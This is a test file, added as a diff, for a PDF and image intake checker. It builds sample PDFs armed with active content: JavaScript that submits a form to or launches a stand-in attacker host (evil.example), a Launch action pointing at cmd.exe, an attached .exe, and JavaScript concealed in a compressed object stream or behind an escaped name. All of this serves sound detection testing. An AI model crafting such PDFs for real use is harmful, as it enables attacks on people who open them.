@@ -1,0 +1,318 @@
+"""`inspect()`: the bad-input corpus every intake channel shares (issue 6).
+
+Real files throughout: PDFs drawn with reportlab and armed with pypdf, not byte strings that
+merely look like PDFs, so a check that only works on toy input fails here.
+"""
+
+from __future__ import annotations
+
+import io
+import zlib
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from pypdf import PdfReader, PdfWriter
+from pypdf.actions import JavaScript, PageTrigger
+from pypdf.generic import (
+    ArrayObject,
+    DictionaryObject,
+    FloatObject,
+    NameObject,
+    TextStringObject,
+)
+from reportlab.lib.pagesizes import A4
+from reportlab.pdfgen import canvas
+
+from vigie.records.checks import ContentReport, inspect
+from vigie.records.ingest_errors import InvalidDocument
+
+PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 32
+JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 32
+
+
+def lab_report_pdf() -> bytes:
+    buffer = io.BytesIO()
+    page = canvas.Canvas(buffer, pagesize=A4)
+    page.drawString(72, 800, "Laboratoire Test - Numeration formule sanguine")
+    page.drawString(72, 780, "Hemoglobine 13.2 g/dL (12.0-16.0)")
+    page.showPage()
+    page.save()
+    return buffer.getvalue()
+
+
+VALID_PDF = lab_report_pdf()
+
+
+def _writer() -> PdfWriter:
+    return PdfWriter(clone_from=PdfReader(io.BytesIO(VALID_PDF)))
+
+
+def _bytes(writer: PdfWriter) -> bytes:
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def pdf_with_document_javascript() -> bytes:
+    # pypdf 7 removed add_js(); add_open_action() is its replacement: document-level
+    # JavaScript in the catalog's /Names tree, run when the file opens.
+    writer = _writer()
+    writer.add_open_action(JavaScript("app.alert('pwned');"))
+    return _bytes(writer)
+
+
+def pdf_with_page_open_javascript() -> bytes:
+    writer = _writer()
+    writer.pages[0].add_action(PageTrigger.OPEN, JavaScript("app.alert('page');"))
+    return _bytes(writer)
+
+
+def pdf_with_open_action_javascript() -> bytes:
+    writer = _writer()
+    action = DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Action"),
+            NameObject("/S"): NameObject("/JavaScript"),
+            NameObject("/JS"): TextStringObject("this.submitForm('https://evil.example/');"),
+        }
+    )
+    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
+    return _bytes(writer)
+
+
+def pdf_with_launch_action() -> bytes:
+    # A link annotation that launches a program when clicked: no JavaScript anywhere.
+    writer = _writer()
+    launch = DictionaryObject(
+        {
+            NameObject("/S"): NameObject("/Launch"),
+            NameObject("/F"): TextStringObject("C:\\Windows\\System32\\cmd.exe"),
+        }
+    )
+    annotation = DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Annot"),
+            NameObject("/Subtype"): NameObject("/Link"),
+            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (72, 700, 300, 720)]),
+            NameObject("/A"): launch,
+        }
+    )
+    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
+    return _bytes(writer)
+
+
+def pdf_with_embedded_file() -> bytes:
+    writer = _writer()
+    writer.add_attachment("invoice.exe", b"MZ\x90\x00 not really a program")
+    return _bytes(writer)
+
+
+def pdf_with_javascript_in_object_stream() -> bytes:
+    """The catalog and its OpenAction JavaScript inside a Flate-compressed object stream.
+
+    pypdf 7 writes no object streams (its `compress_identical_objects` only deduplicates),
+    so this PDF 1.5 file is assembled by hand: object stream 5 holds objects 1-4, and a
+    cross-reference stream (object 6) says where. No active name appears in the raw bytes.
+    """
+    objects = {
+        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
+        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
+        4: b"<</Type/Action/S/JavaScript/JS(app.launchURL\\('https://evil.example/'\\))>>",
+    }
+    body = b""
+    offsets = []
+    for number, text in objects.items():
+        offsets.append(f"{number} {len(body)}".encode())
+        body += text + b"\n"
+    header = b" ".join(offsets) + b"\n"
+    packed = zlib.compress(header + body)
+    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
+    stm_offset = len(out)
+    out += (
+        f"5 0 obj\n<</Type/ObjStm/N {len(objects)}/First {len(header)}"
+        f"/Filter/FlateDecode/Length {len(packed)}>>\nstream\n"
+    ).encode()
+    out += packed + b"\nendstream\nendobj\n"
+    xref_offset = len(out)
+    # Entries: type (1 byte), field 2 (2 bytes), field 3 (2 bytes) — /W [1 2 2].
+    rows = [bytes([0, 0, 0, 0xFF, 0xFF])]  # object 0: head of the free list
+    rows += [bytes([2, 0, 5, 0, index]) for index in range(len(objects))]  # 1-4 in stream 5
+    rows.append(bytes([1]) + stm_offset.to_bytes(2, "big") + b"\x00\x00")  # 5: at offset
+    rows.append(bytes([1]) + xref_offset.to_bytes(2, "big") + b"\x00\x00")  # 6: this stream
+    table = b"".join(rows)
+    out += (
+        f"6 0 obj\n<</Type/XRef/Size 7/W[1 2 2]/Root 1 0 R/Length {len(table)}>>\nstream\n"
+    ).encode()
+    out += table + b"\nendstream\nendobj\n"
+    out += f"startxref\n{xref_offset}\n%%EOF\n".encode()
+    return bytes(out)
+
+
+# --- what is accepted ------------------------------------------------------------------------
+
+
+def test_it_accepts_a_plain_lab_report_pdf() -> None:
+    report = inspect(VALID_PDF, "application/pdf")
+    assert report == ContentReport("application/pdf", active_content=False, warnings=[])
+
+
+def test_it_accepts_a_content_type_with_parameters_and_odd_case() -> None:
+    assert inspect(VALID_PDF, "Application/PDF; charset=binary").content_type == "application/pdf"
+
+
+@pytest.mark.parametrize(
+    ("data", "content_type"), [(PNG, "image/png"), (JPEG, "image/jpeg")], ids=["png", "jpeg"]
+)
+def test_it_accepts_images_by_their_magic_bytes(data: bytes, content_type: str) -> None:
+    assert inspect(data, content_type) == ContentReport(content_type)
+
+
+# --- what is refused, with a message the sender can act on -----------------------------------
+
+
+def test_it_refuses_a_pdf_cut_in_the_middle_as_truncated() -> None:
+    with pytest.raises(InvalidDocument, match="truncated"):
+        inspect(VALID_PDF[: len(VALID_PDF) // 2], "application/pdf")
+
+
+def test_it_refuses_an_html_error_page_named_pdf_naming_its_first_bytes() -> None:
+    page = b"<!DOCTYPE html><html><body>502 Bad Gateway</body></html>"
+    with pytest.raises(InvalidDocument, match="not a application/pdf") as refused:
+        inspect(page, "application/pdf")
+    assert "<!DOCTYP" in str(refused.value)
+
+
+@pytest.mark.parametrize("content_type", ["application/pdf", "image/png", "text/plain"])
+def test_it_refuses_an_empty_file(content_type: str) -> None:
+    with pytest.raises(InvalidDocument, match="empty"):
+        inspect(b"", content_type)
+
+
+@pytest.mark.parametrize("content_type", ["text/html", "image/svg+xml", "application/zip", ""])
+def test_it_refuses_an_unsupported_type(content_type: str) -> None:
+    with pytest.raises(InvalidDocument, match="unsupported content type"):
+        inspect(VALID_PDF, content_type)
+
+
+def test_it_refuses_a_png_declared_as_jpeg() -> None:
+    with pytest.raises(InvalidDocument, match="not a image/jpeg"):
+        inspect(PNG, "image/jpeg")
+
+
+def test_it_refuses_a_pdf_whose_structure_is_garbage() -> None:
+    junk = b"%PDF-1.7\n" + b"this is not a pdf body " * 20 + b"\n%%EOF\n"
+    with pytest.raises(InvalidDocument, match="PDF"):
+        inspect(junk, "application/pdf")
+
+
+# --- active content: stored, but flagged (served as a download only) -------------------------
+
+
+@pytest.mark.parametrize(
+    ("build", "expected"),
+    [
+        (pdf_with_document_javascript, "javascript"),
+        (pdf_with_page_open_javascript, "javascript"),
+        (pdf_with_open_action_javascript, "javascript"),
+        (pdf_with_launch_action, "launch_action"),
+        (pdf_with_embedded_file, "embedded_file"),
+        (pdf_with_javascript_in_object_stream, "javascript"),
+    ],
+    ids=[
+        "document_js",
+        "page_open_js",
+        "open_action_js",
+        "launch",
+        "embedded_file",
+        "js_in_object_stream",
+    ],
+)
+def test_active_content_is_accepted_but_flagged(build: object, expected: str) -> None:
+    data = build()  # type: ignore[operator]
+    report = inspect(data, "application/pdf")
+    assert report.active_content
+    assert expected in report.warnings
+    assert report.warnings == sorted(set(report.warnings))
+
+
+def test_javascript_hidden_in_a_compressed_object_stream_is_still_found() -> None:
+    data = pdf_with_javascript_in_object_stream()
+    # The premise: a byte scan alone cannot see it.
+    assert b"JavaScript" not in data
+    assert b"/JS" not in data
+    assert len(PdfReader(io.BytesIO(data)).pages) == 1
+    assert inspect(data, "application/pdf").warnings == ["javascript"]
+
+
+def test_javascript_behind_an_escaped_name_is_found() -> None:
+    # /J#61vaScript is /JavaScript for a PDF reader; a byte pattern does not match it.
+    data = pdf_with_open_action_javascript().replace(b"/JavaScript", b"/J#61vaScript")
+    assert b"/JavaScript" not in data
+    report = inspect(data, "application/pdf")
+    assert report.active_content
+    assert "javascript" in report.warnings
+
+
+# --- never anything but an answer ------------------------------------------------------------
+
+
+def _inspect_answers(data: bytes, content_type: str = "application/pdf") -> None:
+    # Any other exception escapes and fails the test: that is the point.
+    try:
+        report = inspect(data, content_type)
+    except InvalidDocument as exc:
+        refusal = str(exc)
+    else:
+        assert isinstance(report, ContentReport)
+        return
+    assert refusal, "a refusal must say why"
+
+
+FUZZ = settings(max_examples=300, deadline=2000, suppress_health_check=[HealthCheck.too_slow])
+
+
+@FUZZ
+@given(
+    data=st.one_of(
+        st.binary(max_size=4096),
+        # Past the magic and EOF checks, so the bytes reach the PDF parser itself.
+        st.binary(max_size=2048).map(lambda body: b"%PDF-1.7\n" + body + b"\n%%EOF\n"),
+    ),
+    content_type=st.sampled_from(["application/pdf", "image/png", "image/jpeg", "text/html"]),
+)
+def test_arbitrary_bytes_get_a_report_or_a_refusal(data: bytes, content_type: str) -> None:
+    _inspect_answers(data, content_type)
+
+
+_ARMED = [VALID_PDF, pdf_with_document_javascript(), pdf_with_javascript_in_object_stream()]
+
+
+@FUZZ
+@given(
+    base=st.sampled_from(_ARMED),
+    cut=st.integers(min_value=0, max_value=len(max(_ARMED, key=len))),
+    flips=st.lists(st.tuples(st.integers(min_value=0), st.integers(1, 255)), max_size=8),
+)
+def test_mutated_pdfs_get_a_report_or_a_refusal(
+    base: bytes, cut: int, flips: list[tuple[int, int]]
+) -> None:
+    data = bytearray(base)
+    for position, mask in flips:
+        data[position % len(data)] ^= mask
+    # Keep the tail when cutting from the front, so the EOF check does not hide the parser.
+    mutated = bytes(data[: max(cut, 1)]) if cut % 2 else b"%PDF-1.4\n" + bytes(data[cut:])
+    _inspect_answers(mutated)
+
+
+def test_a_complete_pdf_padded_with_a_trailing_comment_is_accepted() -> None:
+    # Some producers pad files; a comment after %%EOF is not a cut transfer.
+    report = inspect(VALID_PDF + b"%" + b"x" * 20_000 + b"\n", "application/pdf")
+    assert report.content_type == "application/pdf"
+
+
+def test_an_incremental_update_cut_after_the_first_eof_is_refused() -> None:
+    cut = VALID_PDF + b"\n5 0 obj\n<< /Type /Annot /Subtype /Link"
+    with pytest.raises(InvalidDocument, match="truncated"):
+        inspect(cut, "application/pdf")
